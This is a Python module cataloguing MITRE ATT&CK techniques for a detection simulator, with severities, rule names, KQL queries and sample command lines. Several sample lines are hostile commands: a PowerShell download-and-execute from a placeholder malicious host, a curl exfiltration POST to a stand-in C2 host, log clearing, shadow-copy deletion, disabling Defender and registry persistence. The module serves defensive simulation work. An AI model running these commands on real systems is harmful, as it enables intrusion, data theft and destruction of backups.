"""
MITRE ATT&CK technique catalog.

Static lookup tables used by templates and the detection simulator:
technique names, alert severities, detection rule names and
descriptions, and the typical process activity for each technique.
"""

from dataclasses import dataclass
from typing import Dict, Optional

from .config.models import Severity


@dataclass(frozen=True)
class TechniqueInfo:
    """Static metadata for one technique family."""

    technique_id: str
    name: str
    tactic: str
    severity: Optional[Severity] = None
    rule_name: Optional[str] = None
    description: Optional[str] = None
    action: str = "suspicious-activity"
    process: str = "unknown.exe"
    command_line: str = "unknown.exe"
    query: Optional[str] = None

    @property
    def reference(self) -> str:
        return f"https://attack.mitre.org/techniques/{self.technique_id.replace('.', '/')}/"


TECHNIQUES: Dict[str, TechniqueInfo] = {
    "T1566": TechniqueInfo(
        technique_id="T1566",
        name="Phishing",
        tactic="initial-access",
        severity=Severity.HIGH,
        rule_name="Email Security: Malicious Attachment Detection",
        description=(
            "Detects malicious email attachments and phishing attempts based on "
            "file patterns and network behavior."
        ),
        action="email-attachment-opened",
        process="outlook.exe",
        command_line="outlook.exe /safe",
        query="data_stream.dataset:{dataset} AND (event.action:email-* OR file.extension:exe OR file.extension:pdf)",
    ),
    "T1059": TechniqueInfo(
        technique_id="T1059",
        name="Command and Scripting Interpreter",
        tactic="execution",
        severity=Severity.MEDIUM,
        rule_name="Command Line: Suspicious PowerShell Execution",
        description=(
            "Identifies suspicious command-line activity including PowerShell, CMD, "
            "and scripting interpreter usage."
        ),
        action="script-execution",
        process="powershell.exe",
        command_line=(
            "powershell.exe -ExecutionPolicy Bypass -Command "
            "\"IEX (New-Object Net.WebClient).DownloadString('http://malicious.com/script.ps1')\""
        ),
        query="data_stream.dataset:{dataset} AND (process.name:powershell.exe OR process.name:cmd.exe OR event.action:script-*)",
    ),
    "T1055": TechniqueInfo(
        technique_id="T1055",
        name="Process Injection",
        tactic="privilege-escalation",
        severity=Severity.HIGH,
        rule_name="Process Security: Code Injection Detected",
        description=(
            "Detects process injection techniques including DLL injection and code "
            "injection patterns."
        ),
        action="process-injection",
        process="svchost.exe",
        command_line="svchost.exe -k netsvcs",
        query="data_stream.dataset:{dataset} AND (api.name:*Inject* OR event.action:process-injection)",
    ),
    "T1003": TechniqueInfo(
        technique_id="T1003",
        name="OS Credential Dumping",
        tactic="credential-access",
        severity=Severity.CRITICAL,
        rule_name="Credential Access: Dumping Attempt",
        description=(
            "Monitors for credential dumping activities including LSASS access and "
            "hash extraction."
        ),
        action="credential-dumping",
        process="lsass.exe",
        command_line="lsass.exe",
        query="data_stream.dataset:{dataset} AND (process.name:*dump* OR event.action:credential-access)",
    ),
    "T1070": TechniqueInfo(
        technique_id="T1070",
        name="Indicator Removal on Host",
        tactic="defense-evasion",
        severity=Severity.MEDIUM,
        description="Identifies attempts to remove indicators of compromise from systems.",
        action="file-deletion",
        process="wevtutil.exe",
        command_line="wevtutil.exe clear-log Security",
        query="data_stream.dataset:{dataset} AND (event.action:deletion OR file.name:*.log)",
    ),
    "T1083": TechniqueInfo(
        technique_id="T1083",
        name="File and Directory Discovery",
        tactic="discovery",
        severity=Severity.LOW,
        description="Detects file and directory discovery activities that may indicate reconnaissance.",
        action="file-discovery",
        process="cmd.exe",
        command_line="cmd.exe /c dir C:\\ /s",
        query="data_stream.dataset:{dataset} AND (event.action:file-discovery OR api.name:*Find*)",
    ),
    "T1190": TechniqueInfo(
        technique_id="T1190",
        name="Exploit Public-Facing Application",
        tactic="initial-access",
        description="Monitors for exploitation attempts against public-facing applications.",
        action="exploit-attempt",
        process="w3wp.exe",
        command_line="w3wp.exe",
    ),
    "T1195": TechniqueInfo(
        technique_id="T1195",
        name="Supply Chain Compromise",
        tactic="initial-access",
        description="Detects potential supply chain compromise indicators.",
        action="supply-chain-compromise",
        process="msiexec.exe",
        command_line="msiexec.exe /i malicious.msi",
    ),
    "T1486": TechniqueInfo(
        technique_id="T1486",
        name="Data Encrypted for Impact",
        tactic="impact",
        description="Identifies ransomware encryption activities and related file system changes.",
        action="file-encryption",
        process="ransomware.exe",
        command_line="ransomware.exe --encrypt C:\\",
    ),
    "T1041": TechniqueInfo(
        technique_id="T1041",
        name="Exfiltration Over C2 Channel",
        tactic="exfiltration",
        description="Detects data exfiltration over command and control channels.",
        action="data-exfiltration",
        process="curl.exe",
        command_line="curl.exe -X POST http://c2.com/data",
    ),
    "T1021": TechniqueInfo(
        technique_id="T1021",
        name="Remote Services",
        tactic="lateral-movement",
        action="remote-logon",
        process="mstsc.exe",
        command_line="mstsc.exe /v:FS01",
    ),
    "T1053": TechniqueInfo(
        technique_id="T1053",
        name="Scheduled Task/Job",
        tactic="persistence",
        action="scheduled-task-created",
        process="schtasks.exe",
        command_line="schtasks.exe /create /tn WindowsUpdate /tr C:\\ProgramData\\update.exe /sc onlogon",
    ),
    "T1547": TechniqueInfo(
        technique_id="T1547",
        name="Boot or Logon Autostart Execution",
        tactic="persistence",
        action="registry-run-key-set",
        process="reg.exe",
        command_line="reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater",
    ),
    "T1078": TechniqueInfo(
        technique_id="T1078",
        name="Valid Accounts",
        tactic="initial-access",
        action="logon-success",
        process="winlogon.exe",
        command_line="winlogon.exe",
    ),
    "T1110": TechniqueInfo(
        technique_id="T1110",
        name="Brute Force",
        tactic="credential-access",
        severity=Severity.HIGH,
        action="logon-failure",
        process="lsass.exe",
        command_line="lsass.exe",
    ),
    "T1082": TechniqueInfo(
        technique_id="T1082",
        name="System Information Discovery",
        tactic="discovery",
        severity=Severity.LOW,
        action="system-discovery",
        process="systeminfo.exe",
        command_line="systeminfo.exe",
    ),
    "T1018": TechniqueInfo(
        technique_id="T1018",
        name="Remote System Discovery",
        tactic="discovery",
        severity=Severity.LOW,
        action="network-discovery",
        process="net.exe",
        command_line="net.exe view /domain",
    ),
    "T1005": TechniqueInfo(
        technique_id="T1005",
        name="Data from Local System",
        tactic="collection",
        action="file-access",
        process="robocopy.exe",
        command_line="robocopy.exe C:\\Users C:\\ProgramData\\stage /s",
    ),
    "T1560": TechniqueInfo(
        technique_id="T1560",
        name="Archive Collected Data",
        tactic="collection",
        action="archive-created",
        process="7z.exe",
        command_line="7z.exe a -p C:\\ProgramData\\stage.7z C:\\ProgramData\\stage",
    ),
    "T1567": TechniqueInfo(
        technique_id="T1567",
        name="Exfiltration Over Web Service",
        tactic="exfiltration",
        severity=Severity.HIGH,
        action="cloud-upload",
        process="rclone.exe",
        command_line="rclone.exe copy C:\\ProgramData\\stage remote:backup",
    ),
    "T1490": TechniqueInfo(
        technique_id="T1490",
        name="Inhibit System Recovery",
        tactic="impact",
        severity=Severity.CRITICAL,
        action="shadow-copy-deleted",
        process="vssadmin.exe",
        command_line="vssadmin.exe delete shadows /all /quiet",
    ),
    "T1562": TechniqueInfo(
        technique_id="T1562",
        name="Impair Defenses",
        tactic="defense-evasion",
        severity=Severity.HIGH,
        action="defender-disabled",
        process="powershell.exe",
        command_line="powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true",
    ),
    "T1204": TechniqueInfo(
        technique_id="T1204",
        name="User Execution",
        tactic="execution",
        action="user-execution",
        process="explorer.exe",
        command_line="explorer.exe",
    ),
    "T1047": TechniqueInfo(
        technique_id="T1047",
        name="Windows Management Instrumentation",
        tactic="execution",
        action="wmi-execution",
        process="wmic.exe",
        command_line="wmic.exe /node:FS01 process call create cmd.exe",
    ),
}


def family_of(technique_id: str) -> str:
    """Return the parent technique id ("T1059.001" -> "T1059")."""
    return technique_id.split(".", 1)[0]


def get_technique(technique_id: str) -> Optional[TechniqueInfo]:
    """
    Look up technique metadata.

    Sub-techniques fall back to their parent family. Returns None for
    techniques absent from the catalog.
    """
    if not technique_id:
        return None
    info = TECHNIQUES.get(technique_id)
    if info is None:
        info = TECHNIQUES.get(family_of(technique_id))
    return info


def technique_name(technique_id: str) -> str:
    info = get_technique(technique_id)
    return info.name if info else technique_id


def severity_for(technique_id: str) -> Severity:
    """Alert severity for a technique, defaulting to medium."""
    info = get_technique(technique_id)
    if info and info.severity:
        return info.severity
    return Severity.MEDIUM


def rule_name_for(technique_id: str, dataset: str, action: str) -> str:
    """Detection rule name for a technique, or a generic name built from the log."""
    info = get_technique(technique_id)
    if info and info.rule_name:
        return info.rule_name
    dataset = dataset or "unknown"
    return f"{dataset[:1].upper() + dataset[1:]}: Suspicious {action or 'activity'}"


def rule_description_for(technique_id: str) -> str:
    info = get_technique(technique_id)
    if info and info.description:
        return info.description
    return f"Detects suspicious activity related to {technique_id}"


def detection_query_for(technique_id: str, dataset: str, action: str) -> str:
    """KQL detection query for a technique against the trigger log's dataset."""
    dataset = dataset or "logs-*"
    info = get_technique(technique_id)
    if info and info.query:
        return info.query.format(dataset=dataset)
    return f"data_stream.dataset:{dataset} AND event.action:{action or 'suspicious_activity'}"
